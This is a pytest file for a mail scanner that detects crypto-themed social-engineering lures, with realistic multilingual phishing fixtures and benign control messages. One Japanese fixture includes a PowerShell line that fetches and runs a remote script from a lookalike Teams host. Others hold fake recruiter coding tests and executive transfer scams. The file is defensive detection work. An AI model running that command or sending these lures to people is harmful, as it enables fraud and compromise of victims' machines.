"""Lures: fake recruiters, fake investors, trojanised trading apps and transfer or wallet
requests, in Japanese, English, French, Arabic, Korean and Chinese; the ordinary mail that
must stay quiet; and the evidence an analyst reads."""

from __future__ import annotations

import unicodedata

import pytest
from conftest import EXAMPLE_PROFILE, shared_path
from hypothesis import given, settings
from hypothesis import strategies as st

from keiho.errors import RuleError
from keiho.findings import Finding
from keiho.mail.context import ScanContext
from keiho.mail.lure_rules import compile_lures
from keiho.mail.lures import analyze_lures
from keiho.mail.message import Address, Attachment, Link, Message
from keiho.mail.parse import parse_email
from keiho.mail.phrases import PhraseMatcher, as_bytes, fold, nfkc
from keiho.profile import load_profile, parse_profile
from keiho.rules import RuleSet, load_pillar, parse_rule

CODING = "mail.lure-coding-test"
INVESTOR = "mail.lure-investor-install"
TRADING = "mail.lure-trading-app"
WALLET = "mail.lure-wallet-request"
TRANSFER = "mail.lure-urgent-transfer"
PIVOT = "mail.lure-chat-pivot"
ADDRESS = "0x52908400098527886E0F7030069857D2E4169EE7"


@pytest.fixture(scope="module")
def ctx() -> ScanContext:
    return ScanContext.from_profile(load_profile(EXAMPLE_PROFILE))


def _ctx_with(rules_table: str) -> ScanContext:
    text = EXAMPLE_PROFILE.read_text(encoding="utf-8") + "\n[rules]\n" + rules_table + "\n"
    return ScanContext.from_profile(parse_profile(text, str(EXAMPLE_PROFILE)))


def _fired(ctx: ScanContext, message: Message) -> dict[str, Finding]:
    return {f.rule: f for f in analyze_lures(message, ctx)}


def _mail(location: str, subject: str, text: str, *urls: str, sender: str = "", attachments: tuple[str, ...] = ()) -> Message:
    return Message(
        location=location,
        sender=Address(sender, ""),
        subject=subject,
        text=text,
        links=tuple(Link(u) for u in urls),
        attachments=tuple(Attachment(name) for name in attachments),
    )


# -- lures as they arrive ----------------------------------------------------------------------

CONTAGIOUS_INTERVIEW = _mail(
    "ci-bitbucket.eml",
    "Full Stack Developer (Web3) - next step",
    """Hi Kenji,

Thank you for your interest in the Full Stack Developer position at DeFi Labs. As part of our
hiring process we ask every candidate to complete a short take-home test (about 45 minutes).

Please clone the repository below, run `npm install` and `npm start`, then fix the bug that
stops the token balance from loading and reply with a screenshot:

https://bitbucket.org/defi-labs-hr/mvp-assessment

We would like to have your result by tomorrow so we can schedule the technical interview.

Best regards,
Emma Rodriguez
Talent Acquisition, DeFi Labs""",
    "https://bitbucket.org/defi-labs-hr/mvp-assessment",
    sender="Emma Rodriguez",
)

# DMM Bitcoin, 2024: a "recruiter" on LinkedIn sent a Python script on GitHub as a pre-employment test.
DMM_LINKEDIN = Message(
    location="linkedin:messages/2024-03-25.json#4",
    kind="chat",
    platform="linkedin",
    sender=Address("Sakura Ito | Web3 Recruiter", "linkedin:sakura-ito-web3"),
    text="""はじめまして。暗号資産関連企業の採用担当をしております伊藤です。
ご経歴を拝見し、弊社のバックエンドエンジニア職にぜひご応募いただきたくご連絡しました。
選考の一環として、入社前テスト（Pre-Employment Test）をお願いしております。
下記GitHubページのPythonスクリプトをローカル環境で実行し、出力結果をスクリーンショットでお送りください。
https://github.com/web3-careers-jp/pre-employment-test
python main.py で起動できます。""",
    links=(Link("https://github.com/web3-careers-jp/pre-employment-test", origin="chat"),),
)

LURES: list[tuple[str, str, Message]] = [
    ("en", CODING, CONTAGIOUS_INTERVIEW),
    ("ja", CODING, DMM_LINKEDIN),
    (
        "fr",
        CODING,
        _mail(
            "fr-coding.eml",
            "Recrutement développeur blockchain – exercice technique",
            """Bonjour Léa,

Merci pour cet échange très agréable lors de notre premier entretien. Pour la suite du processus
de recrutement, voici l'exercice technique : clonez le dépôt, installez les dépendances avec
« yarn install », lancez le projet en local et corrigez le bug d'affichage du portefeuille.

Dépôt : https://gitlab.com/hexa-finance/exercice-technique
Pour toute question, écrivez-moi sur Discord (hexa_rh), c'est plus rapide.

Bien à vous,
Chloé Dubois, chargée de recrutement""",
            "https://gitlab.com/hexa-finance/exercice-technique",
        ),
    ),
    (
        "ar",
        CODING,
        _mail(
            "ar-coding.eml",
            "المرحلة التالية من التوظيف",
            """مرحباً أحمد،

شكراً لاهتمامك بوظيفة مطور الواجهات الخلفية. كجزء من عملية التوظيف نرجو منك إنجاز مهمة برمجية قصيرة:
قم بتشغيل المشروع الموجود على الرابط التالي بعد تثبيت الحزم (pip install -r requirements.txt)
ثم أصلح الخطأ في ملف المحفظة.

https://fintech-demo-task.vercel.app

مع التحية،
فريق التوظيف""",
            "https://fintech-demo-task.vercel.app",
        ),
    ),
    (
        "ko",
        CODING,
        _mail(
            "ko-coding.eml",
            "[블록체인 개발자 채용] 사전 과제 안내",
            """안녕하세요, 채용 담당자 이수진입니다.
서류 전형 합격을 축하드립니다. 다음 단계로 사전 과제를 진행해 주시기 바랍니다.
첨부된 프로젝트 압축 파일을 풀고 npm install 후 npm run dev로 실행해 주세요.
지갑 연결 시 발생하는 버그를 수정해 주시면 됩니다.""",
            attachments=("frontend_task.zip",),
        ),
    ),
    (
        "zh",
        CODING,
        _mail(
            "zh-coding.eml",
            "区块链工程师岗位 - 技术测试",
            """您好，

感谢您应聘我们的区块链工程师岗位。面试之前，请先完成一个简短的技术测试：
1. git clone https://github.com/hk-quant-hr/backend-test
2. pip install -r requirements.txt
3. python main.py，然后修复交易记录页面的错误。
完成后请加我微信 quant_hr_lily 发送结果。""",
            "https://github.com/hk-quant-hr/backend-test",
        ),
    ),
    (
        "en",
        INVESTOR,
        _mail(
            "bluenoroff-zoom.eml",
            "Re: Intro call - Altair Ventures / Kitsune",
            """Hi Haruto,

Thanks again for the intro. Our partners would like to move forward with the investment
discussion on a video call tomorrow at 10:00 JST. Meeting link:
https://us06web-zoom.forum/j/86131950263?pwd=altairkitsune

Several participants reported audio issues with the latest macOS. If you cannot hear us, please
install the Zoom SDK update from the support page before joining:
https://us06web-zoom.forum/support/zoom_sdk_support.scpt

Best,
Mark Feldman, General Partner""",
            "https://us06web-zoom.forum/j/86131950263?pwd=altairkitsune",
        ),
    ),
    (
        "ja",
        INVESTOR,
        _mail(
            "ja-teams.eml",
            "【ご案内】資本提携に関するお打ち合わせ",
            """佐藤様

資本提携の件でお時間をいただきありがとうございます。
明日のオンライン会議は下記Teamsリンクからご参加ください。
https://teams-live.com/meet/4471203

前回は音声が聞こえない状態でしたので、会議の前に以下のコマンドをPowerShellで実行し、
ドライバのアップデートをお願いいたします。
iwr https://teams-live.com/fix.ps1 | iex""",
            "https://teams-live.com/meet/4471203",
        ),
    ),
    (
        "en",
        TRADING,
        _mail(
            "tradertraitor.eml",
            "Beta invite: RealTime price prediction for your desk",
            """Hello,

Following our conversation on Telegram, here is the beta version of our crypto price
prediction app. It connects to your exchange account and shows AI trading signals in real time.
The macOS build is attached; the Windows installer is on our site.""",
            "https://realtime-cryptoai.com/download/RealTimeTrader-Setup.exe",
            attachments=("RealTimeTrader-2.3.1.dmg",),
        ),
    ),
    (
        "ko",
        TRADING,
        _mail(
            "ko-trading.eml",
            "AI 자동매매 앱 베타 초대",
            """안녕하세요. 지난번 통화에서 말씀드린 AI 자동매매 앱 베타 버전입니다.
아이폰은 TestFlight 초대 링크로 설치해 주세요.""",
            "https://testflight.apple.com/join/Qx7pL2aB",
        ),
    ),
    (
        "zh",
        TRADING,
        _mail(
            "zht-trading.eml",
            "量化交易機器人內測邀請",
            """您好，這是我們的量化交易機器人內測版，內建價格預測與套利功能。
請下載安裝：https://quantbot-pro.tw/release/QuantBot-1.2.pkg""",
            "https://quantbot-pro.tw/release/QuantBot-1.2.pkg",
        ),
    ),
    (
        "ar",
        WALLET,
        _mail(
            "ar-safe.eml",
            "معاملة معلقة تحتاج إلى توقيعك",
            """مرحباً،
لدينا معاملة معلقة في محفظة Safe متعددة التوقيع. يرجى الموافقة على المعاملة فوراً عبر الرابط التالي
لأن الطرف الآخر غيّر عنوان الاستلام:
https://app.safe-global.app/transactions/queue""",
            "https://app.safe-global.app/transactions/queue",
        ),
    ),
    (
        "zh",
        WALLET,
        _mail(
            "zh-seed.eml",
            "钱包安全升级通知",
            "尊敬的用户：系统检测到您的钱包存在风险，请立即验证钱包并输入您的助记词，以免资产被冻结。",
        ),
    ),
    (
        "fr",
        TRANSFER,
        _mail(
            "fr-bec.eml",
            "Virement urgent – dossier confidentiel",
            """Bonjour,

Je suis en réunion avec nos avocats et ne peux pas téléphoner. J'ai besoin que vous effectuiez
aujourd'hui même un virement de 180 000 USDT vers l'adresse ci-dessous. Ce dossier est
strictement confidentiel : n'en parlez à personne avant l'annonce.

0x52908400098527886E0F7030069857D2E4169EE7

Emily Carter
Directrice financière""",
            sender="Emily Carter",
        ),
    ),
    (
        "ko",
        TRANSFER,
        _mail(
            "ko-bec.eml",
            "긴급 송금 건",
            "사토 대표님 지시입니다. 오늘까지 아래 주소로 5만 USDT 송금 부탁드립니다. 대외비 사항이니 보안 유지 바랍니다.\n"
            + ADDRESS,
            sender="Haruto Sato",
        ),
    ),
]


@pytest.mark.parametrize(("language", "rule", "message"), LURES, ids=[f"{r.split('-', 1)[1]}-{lang}" for lang, r, _ in LURES])
def test_lures_fire_in_every_language(ctx: ScanContext, language: str, rule: str, message: Message) -> None:
    fired = _fired(ctx, message)
    assert rule in fired, f"{rule} silent on {message.location}; fired: {sorted(fired)}"
    finding = fired[rule]
    assert finding.subject == message.location
    assert finding.score >= 30, finding.evidence
    assert language in str(finding.evidence["languages"]).split(", ")


def test_every_language_is_covered() -> None:
    assert {language for language, _, _ in LURES} >= {"ja", "en", "fr", "ar", "ko", "zh"}
    assert {rule for _, rule, _ in LURES} == {CODING, INVESTOR, TRADING, WALLET, TRANSFER}


def test_coding_test_evidence_names_what_fired(ctx: ScanContext) -> None:
    evidence = _fired(ctx, CONTAGIOUS_INTERVIEW)[CODING].evidence
    assert "npm install" in str(evidence["run_code"])
    assert str(evidence["code_host"]).startswith("bitbucket.org/defi-labs-hr/mvp-assessment")
    assert "take-home test" in str(evidence["test"])
    assert "hiring process" in str(evidence["job"])
    assert evidence["languages"] == "en"
    assert isinstance(evidence["points"], int) and evidence["points"] >= 95


def test_dmm_style_chat_fires_with_the_github_link_and_python(ctx: ScanContext) -> None:
    evidence = _fired(ctx, DMM_LINKEDIN)[CODING].evidence
    assert str(evidence["code_host"]).startswith("github.com/web3-careers-jp/pre-employment-test")
    assert "python main.py" in str(evidence["run_code"])
    assert "入社前テスト" in str(evidence["test"])
    assert evidence["languages"] == "en, ja"  # "Pre-Employment Test" and "Web3 Recruiter" are English


def test_zoom_sdk_lure_names_the_lookalike_meeting_host(ctx: ScanContext) -> None:
    bluenoroff = next(m for _, rule, m in LURES if m.location == "bluenoroff-zoom.eml")
    evidence = _fired(ctx, bluenoroff)[INVESTOR].evidence
    assert evidence["meeting_lookalike"] == "us06web-zoom.forum"
    assert "zoom sdk" in str(evidence["install_fix"])


def test_safe_lookalike_link_comes_from_the_domain_engine(ctx: ScanContext) -> None:
    safe = next(m for _, rule, m in LURES if m.location == "ar-safe.eml")
    evidence = _fired(ctx, safe)[WALLET].evidence
    assert str(evidence["lookalike_link"]).startswith("app.safe-global.app (domain.")


def test_transfer_evidence_names_the_executive_and_shortens_the_address(ctx: ScanContext) -> None:
    finding = _fired(ctx, next(m for _, r, m in LURES if m.location == "fr-bec.eml"))[TRANSFER]
    assert finding.evidence["executive"] == "Emily Carter"
    assert finding.evidence["crypto_address"] == "0x5290…9EE7 (evm)"
    assert all(ADDRESS.lower() not in str(v).lower() for v in finding.evidence.values())
    assert "directrice financière" in str(finding.evidence["authority"])


# -- ordinary mail that shares the words --------------------------------------------------------

HAM: list[Message] = [
    _mail(
        "recruiter.eml",
        "Senior Backend Engineer at Northwind",
        """Hi Kenji, I'm a recruiter at Northwind. We have an open position for a Senior Backend
Engineer (remote, salary 14-16M JPY). The interview process is a call with me, a technical
interview and a final round with the hiring manager. Full job description:
https://careers.northwind.example/jobs/4821 - would you be open to a chat next week?""",
        "https://careers.northwind.example/jobs/4821",
    ),
    _mail(
        "hackerrank.eml",
        "Your technical assessment for Northwind",
        """Thanks for applying to the Site Reliability Engineer role. The next step of the hiring process
is a 60-minute technical assessment on HackerRank: https://www.hackerrank.com/test/abc123
Good luck!""",
        "https://www.hackerrank.com/test/abc123",
    ),
    _mail(
        "node-weekly.eml",
        "Node Weekly #530",
        """Node.js 22.3 released - npm install -g npm@latest, then git clone https://github.com/nodejs/node
to try the new test runner. Also: pnpm install is 20% faster on cold caches.
Jobs: Senior Node.js Engineer at Acme (remote) - we are hiring, salary up to $180k.
You are receiving this because you subscribed. Unsubscribe: https://nodeweekly.example/u/1""",
        "https://github.com/nodejs/node",
    ),
    _mail(
        "github-notification.eml",
        "[kitsune-ex/wallet-core] Fix the bug in the signer retry loop (PR #412)",
        """To reproduce: git clone https://github.com/kitsune-ex/wallet-core && npm install && npm test.
The candidate fix is in the second commit. Reply to this email directly or view it on GitHub.""",
        "https://github.com/kitsune-ex/wallet-core/pull/412",
    ),
    _mail(
        "ja-techblog.eml",
        "開発者ブログ更新のお知らせ",
        """弊社ではフロントエンドにNext.jsを採用しています。今回の記事では npm install から
ローカル環境で実行するまでの手順と、GitHub Actions での CI を紹介します。
https://github.com/kitsune-ex/blog-samples""",
        "https://github.com/kitsune-ex/blog-samples",
    ),
    _mail(
        "ja-vendor-report.eml",
        "週次報告",
        "先日の面談で挙がった課題について、バグ修正と動作確認を実施しました。リポジトリは https://github.com/vendor/kitsune-app です。",
        "https://github.com/vendor/kitsune-app",
    ),
    _mail(
        "zoom-invite.eml",
        "Investor meeting - Q3 review",
        """Haruto Sato is inviting you to a scheduled Zoom meeting with our investors.
Join Zoom Meeting: https://us02web.zoom.us/j/81234567890?pwd=abc123
Meeting ID: 812 3456 7890  Passcode: 123456
If you have audio issues, test your speaker and microphone before joining.""",
        "https://us02web.zoom.us/j/81234567890?pwd=abc123",
    ),
    _mail(
        "teams-invite.eml",
        "Board meeting",
        """Microsoft Teams meeting. Join on your computer, mobile app or room device.
Click here to join the meeting: https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc
Meeting ID: 245 123 456 789  Passcode: aB3dEf. Download Teams | Join on the web""",
        "https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc",
    ),
    _mail(
        "calendly.eml",
        "New event: Intro call with Altair Ventures",
        "Your meeting with a General Partner at Altair Ventures is scheduled. Reschedule: https://calendly.com/altair/intro",
        "https://calendly.com/altair/intro",
    ),
    _mail(
        "investor-update.eml",
        "Q2 investor update",
        """Dear investors, two new portfolio companies joined this quarter and the annual meeting moves
to October. The investor portal had a security update; nothing is needed from you.""",
    ),
    _mail(
        "password-reset.eml",
        "Reset your password",
        "Someone asked to reset your password. If it was you, reset it immediately with the link below; it expires in 24 hours. This is urgent only if you did not ask.",
        "https://accounts.kitsune-ex.com/reset?token=abc",
    ),
    _mail(
        "invoice.eml",
        "Invoice 2024-0612 - payment due",
        "Invoice 2024-0612 for 1,200 USD is due on 30 June. Please pay by bank transfer immediately to avoid a late fee.",
    ),
    _mail(
        "security-notice.eml",
        "Security reminder",
        """Kitsune Exchange staff will never ask for your seed phrase or private key. Never share your
recovery phrase, and be wary of urgent messages that ask you to verify your wallet.""",
    ),
    _mail(
        "ja-security-notice.eml",
        "フィッシング詐欺にご注意ください",
        """当社がお客様のシードフレーズや秘密鍵をお伺いすることは一切ありません。
「至急ウォレット認証を完了してください」といったメールにご注意ください。""",
    ),
    _mail(
        "store-app.eml",
        "Trade on the go",
        "Our new trading app is here. Download it from the App Store or Google Play and trade crypto anywhere.",
        "https://apps.apple.com/jp/app/kitsune/id123456789",
        "https://play.google.com/store/apps/details?id=jp.kitsune",
    ),
    _mail(
        "fr-maintenance.eml",
        "Entretien du serveur ce soir",
        "Entretien du serveur ce soir à 22 h : exécutez la commande de sauvegarde dans le terminal avant de partir. Merci de votre discrétion.",
    ),
    _mail(
        "ar-job.eml",
        "وظيفة شاغرة: مهندس برمجيات",
        "لدينا وظيفة شاغرة لمهندس برمجيات. يرجى إرسال السيرة الذاتية وسنحدد موعد المقابلة قريباً.",
    ),
    _mail(
        "ko-hr.eml",
        "면접 일정 안내",
        "안녕하세요. 채용 담당자입니다. 2차 면접은 다음 주 화요일 오후 2시에 본사 3층 회의실에서 진행됩니다.",
    ),
    _mail(
        "zh-tencent.eml",
        "投资人会议邀请",
        "您好，关于本轮融资，我们下周二与投资人开会。腾讯会议链接：https://meeting.tencent.com/dm/abc123 会议号：123 456 789",
        "https://meeting.tencent.com/dm/abc123",
    ),
    _mail(
        "news.eml",
        "Daily brief",
        "The CEO of a large bank said wire transfer fees will fall next year. In other news, a new file transfer tool was released today.",
    ),
]


@pytest.mark.parametrize("message", HAM, ids=lambda m: m.location)
def test_ordinary_mail_stays_quiet(ctx: ScanContext, message: Message) -> None:
    assert _fired(ctx, message) == {}


def test_a_negation_denies_only_its_own_sentence(ctx: ScanContext) -> None:
    notice = "Staff will never ask for your seed phrase or private key."
    lure = "Please verify your wallet and enter your seed phrase immediately."
    assert WALLET not in _fired(ctx, _mail("notice.eml", "Security", notice))
    assert WALLET in _fired(ctx, _mail("both.eml", "Security", notice + " " + lure))
    secrecy = "Do not share this with anyone. Wire the funds to the address below today, it is urgent. Haruto Sato, CEO"
    assert TRANSFER in _fired(ctx, _mail("bec.eml", "Confidential", secrecy))


def test_co_occurrence_must_be_close_in_long_bodies(ctx: ScanContext) -> None:
    job = "We are hiring a backend engineer; the salary is competitive. "
    run = "To try the tool: git clone the repo and run npm install. "
    filler = "Unrelated list discussion about kernel schedulers and file systems. " * 80
    assert CODING in _fired(ctx, _mail("near.eml", "Hello", job + run + filler))
    assert CODING not in _fired(ctx, _mail("far.eml", "Hello", job + filler + run))


def test_more_concepts_score_higher_up_to_the_rule_score(ctx: ScanContext) -> None:
    partial = _mail("partial.eml", "Job offer", "We are hiring. To continue, run npm install on your laptop.")
    partial_score = _fired(ctx, partial)[CODING].score
    full_score = _fired(ctx, CONTAGIOUS_INTERVIEW)[CODING].score
    assert 30 <= partial_score < full_score == ctx.rules[CODING].score


def test_a_disabled_rule_stays_silent_and_others_still_fire() -> None:
    ctx = _ctx_with(f'disable = ["{CODING}"]')
    fired = _fired(ctx, DMM_LINKEDIN)
    assert CODING not in fired
    fired = _fired(ctx, next(m for _, r, m in LURES if m.location == "fr-coding.eml"))
    assert CODING not in fired and PIVOT in fired  # its concepts still serve the chat-pivot rule


def test_profile_weight_sets_the_full_match_score() -> None:
    ctx = _ctx_with(f'weights = {{ "{CODING}" = 40 }}')
    assert _fired(ctx, CONTAGIOUS_INTERVIEW)[CODING].score == 40


def test_hostile_input_is_bounded(ctx: ScanContext) -> None:
    text = ("job offer git clone npm install https://github.com/a/b coding test " * 20_000) + "\u200b" * 1000
    links = tuple(Link(f"https://host{i}.zoom-meet{i}.example/x") for i in range(5_000))
    message = Message(location="huge.eml", subject="x" * 100_000, text=text, links=links)
    finding = _fired(ctx, message)[CODING]
    assert all(len(str(v)) < 400 for v in finding.evidence.values())


# -- matching ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "folded"),
    [
        ("Coding  TEST", "coding test"),
        ("ＺＯＯＭ　ＳＤＫ", "zoom sdk"),
        ("Entretien d’embauche – développeur", "entretien d'embauche - developpeur"),
        ("مُقَابَلَةُ عَمَلٍ", "مقابله عمل"),
        ("الأمــــان", "الامان"),
        ("Tele\u200bgram", "telegram"),
        ("コーディング テスト\nを実施", "コーディングテストを実施"),
        ("코딩 테스트를  진행", "코딩테스트를진행"),
        ("GitHub のリポジトリ", "githubのリポジトリ"),
    ],
)
def test_fold(text: str, folded: str) -> None:
    assert fold(text) == folded
    assert fold(folded) == folded


# Characters that compose with their neighbours under NFKC, or change under it.
_TRICKY = "e\u0301か\u3099ｶﾞﾟｶ\uff9eㄱㅏ\u1100\u1161\u11a8가ﬁ①ＡＺ，。\u00a0ﻻﺍ𝐓𝐞Å\u212b\u0344"


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet=st.one_of(st.characters(codec="utf-8"), st.sampled_from(_TRICKY)), max_size=24))
def test_fast_nfkc_equals_unicodedata(text: str) -> None:
    assert nfkc(text) == unicodedata.normalize("NFKC", text)


def _matches(phrases: list[str], text: str) -> list[str]:
    matcher = PhraseMatcher((p, p) for p in phrases)
    return [payload for _, _, payload in matcher.scan(as_bytes(fold(text)))]


def test_latin_phrases_match_whole_words_and_cjk_arabic_match_inside_words() -> None:
    assert _matches(["test"], "a contest, a testing day") == []
    assert _matches(["test"], "a (test).") == ["test"]
    assert _matches(["recruit*"], "Recruiters and recruiting") == ["recruit*", "recruit*"]
    assert _matches(["take-home"], "a take home task, a takehome task") == ["take-home", "take-home"]
    assert _matches(["github.com"], "notgithub.com and https://github.com/x") == ["github.com"]
    assert _matches(["npm i"], "npm install") == []
    assert _matches(["テスト"], "コーディングテストです") == ["テスト"]
    assert _matches(["محفظ"], "والمحفظة") == ["محفظ"]
    assert _matches(["github"], "githubのリポジトリ") == ["github"]
    assert _matches(["cto"], "director and δcto") == []


def test_rule_files_with_unknown_or_duplicate_concepts_are_rejected(ctx: ScanContext) -> None:
    base = 'id = "mail.lure-x"\ntitle = "t"\nseverity = "low"\nscore = 10\ndescription = "d"\n'
    params = '[params]\nfire_at = 1\nfull_at = 2\nwindow = 9\nrequire = [["nope"]]\n[params.weights]\nnope = 1\n'
    unknown = parse_rule(base + params, "x")
    with pytest.raises(RuleError, match="unknown concepts"):
        compile_lures(RuleSet({unknown.id: unknown}), ctx.profile)
    twice = parse_rule(base.replace("lure-x", "lure-y") + '[params.concepts.job]\nen = ["job"]\n', "y")
    rules = {r.id: r for r in load_pillar("mail") if r.id.startswith("mail.lure-")} | {twice.id: twice}
    with pytest.raises(RuleError, match="already defined"):
        compile_lures(RuleSet(rules), ctx.profile)


# -- the developer corpus ----------------------------------------------------------------------


def test_mailing_list_ham_rarely_fires(ctx: ScanContext) -> None:
    folder = shared_path("data", "email", "ham")
    files = sorted(folder.glob("*.eml"))
    fired = [f.name for f in files if analyze_lures(parse_email(f.read_bytes(), f.name), ctx)]
    assert len(files) > 1000
    assert len(fired) <= len(files) // 200, fired[:10]
